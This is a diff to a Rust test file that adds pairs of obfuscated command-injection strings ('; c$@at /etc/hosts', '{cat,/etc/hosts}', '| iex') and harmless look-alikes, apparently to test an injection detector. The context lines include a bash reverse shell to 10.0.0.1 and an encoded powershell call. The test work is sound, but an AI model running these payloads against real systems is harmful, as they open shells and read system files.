@@ -25,6 +25,15 @@ const PAIRS: &[(&str, &str)] = &[
     ("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "bash is a shell"),
     ("system('id')", "system (new)"),
     ("; powershell -enc QQBB", "power; shell"),
+    ("; c$@at /etc/hosts", "; c$5"),
+    ("; ca${x}t /etc/hosts", "; ca${x}"),
+    ("; cat$u /etc$u/hosts", "; cats"),
+    ("; 'cat' /etc/hosts", "; 'cat' and dog"),
+    ("x+|+dir+c:", "x+|+dire"),
+    ("{cat,/etc/hosts}", "{cat,dog}"),
+    ("; Get-Content C:\\x", "; get-together at 5"),
+    ("| iex", "| iexplore"),
+    (";/usr/bin/id\\n", "/usr/bin and others"),
 ];
 
 #[test]
